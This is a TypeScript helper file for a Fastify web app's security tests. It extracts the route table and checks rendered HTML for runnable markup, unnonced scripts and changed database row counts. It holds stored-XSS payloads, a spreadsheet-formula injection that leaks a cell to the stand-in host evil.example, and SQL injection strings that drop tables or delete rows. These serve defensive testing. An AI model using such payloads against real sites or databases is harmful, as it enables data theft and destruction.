// Shared by the security tests: the app's own route table, the attack strings, and what an HTML page
// must never contain once someone has typed them into a form (markup that would run).
import type { FastifyInstance } from 'fastify';
import { sql } from 'drizzle-orm';
import type { Db } from '../../src/store/database.ts';

/** `METHOD /path` for every GET and POST route, from fastify's own table (as the access matrix reads it). */
export function routesOf(printed: string): string[] {
  const out: string[] = [];
  const stack: string[] = [];
  for (const line of printed.split('\n')) {
    const m = /^([\s│├└─]*)(.*?) \(([A-Z, ]+)\)$/.exec(line);
    if (!m) continue;
    const depth = Math.round(m[1].length / 4);
    stack.length = depth;
    const path = (stack[depth - 1] ?? '') + m[2];
    stack[depth] = path;
    for (const method of m[3].split(', ')) if (method === 'GET' || method === 'POST') out.push(`${method} ${path === '' ? '/' : path}`);
  }
  return [...new Set(out)].sort();
}

export async function appRoutes(app: FastifyInstance): Promise<string[]> {
  await app.ready();
  return routesOf(app.printRoutes({ commonPrefix: false }));
}

/** Stored XSS attempts (OWASP XSS filter evasion cheat sheet, the classics). */
export const XSS = {
  script: '<script>alert(1)</script>',
  attribute: '"><img src=x onerror=alert(1)>',
  url: 'javascript:alert(1)',
  /** closes the network page's <script type="application/json"> and opens one of its own */
  closeScript: '</script><script>alert(2)</script>',
} as const;

/** How Nunjucks autoescaping writes them: what a page shows instead. */
export const ESCAPED = {
  script: '&lt;script&gt;alert(1)&lt;/script&gt;',
  attribute: '&quot;&gt;&lt;img src=x onerror=alert(1)&gt;',
  closeScript: '&lt;/script&gt;&lt;script&gt;alert(2)&lt;/script&gt;',
} as const;

/** A spreadsheet formula (OWASP CSV injection): it must arrive in a cell as text. */
export const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

export const SQLI = ["' OR 1=1 --", '"; DROP TABLE children; --', "%' UNION SELECT id, name, null, null FROM users --", "1'; DELETE FROM events WHERE '1'='1"] as const;

const decode = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&colon;/gi, ':')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');

/** The nonce a response's CSP allows scripts with. */
export function scriptNonce(csp: unknown): string | undefined {
  return /script-src[^;]*'nonce-([^']+)'/.exec(String(csp ?? ''))?.[1];
}

/**
 * What in an HTML page would run: a stored payload written out raw, an element with an event
 * handler attribute, a javascript: URL in a link or source, or a script the CSP nonce does not
 * cover. Tags are read attribute by attribute, so escaped text inside a value is not mistaken for
 * markup. Returns the problems found (none is the pass).
 */
export function markupProblems(html: string, nonce?: string): string[] {
  const problems: string[] = [];
  for (const raw of ['<script>alert(', '<img src=x onerror', '</script><script>alert']) {
    if (html.includes(raw)) problems.push(`raw markup in the page: ${raw}`);
  }
  const tag = /<([a-zA-Z][\w:-]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/g;
  const attribute = /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;
  for (const m of html.matchAll(tag)) {
    const name = m[1].toLowerCase();
    const attrs = new Map<string, string>();
    for (const a of m[2].matchAll(attribute)) attrs.set(a[1].toLowerCase(), decode(a[2] ?? a[3] ?? a[4] ?? ''));
    for (const [key, value] of attrs) {
      if (key.startsWith('on')) problems.push(`<${name}> has an event handler attribute ${key}="${value}"`);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(key) && /^\s*(javascript|vbscript|data:text\/html)/i.test(value.replace(/[\s\u0000-\u001f]/g, ''))) {
        problems.push(`<${name}> ${key}="${value}"`);
      }
    }
    if (name === 'script') {
      const src = attrs.get('src');
      const sameOrigin = src !== undefined && /^\/(?!\/)/.test(src);
      if (!sameOrigin && (nonce === undefined || attrs.get('nonce') !== nonce)) problems.push(`<script${m[2]}> without the CSP nonce`);
    }
  }
  return problems;
}

/** Rows in every table of the database: what a refused request must leave as it was. */
export async function tableCounts(db: Db): Promise<Record<string, number>> {
  const result = await db.execute(sql`select table_name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE' order by table_name`);
  const names = (result as unknown as { rows: { table_name: string }[] }).rows.map((r) => r.table_name).filter((n) => !n.startsWith('__drizzle'));
  const counts: Record<string, number> = {};
  for (const name of names) {
    const rows = (await db.execute(sql`select count(*)::int as n from ${sql.identifier(name)}`)) as unknown as { rows: { n: number }[] };
    counts[name] = rows.rows[0].n;
  }
  return counts;
}

export async function countOf(db: Db, table: string): Promise<number> {
  const rows = (await db.execute(sql`select count(*)::int as n from ${sql.identifier(table)}`)) as unknown as { rows: { n: number }[] };
  return rows.rows[0].n;
}
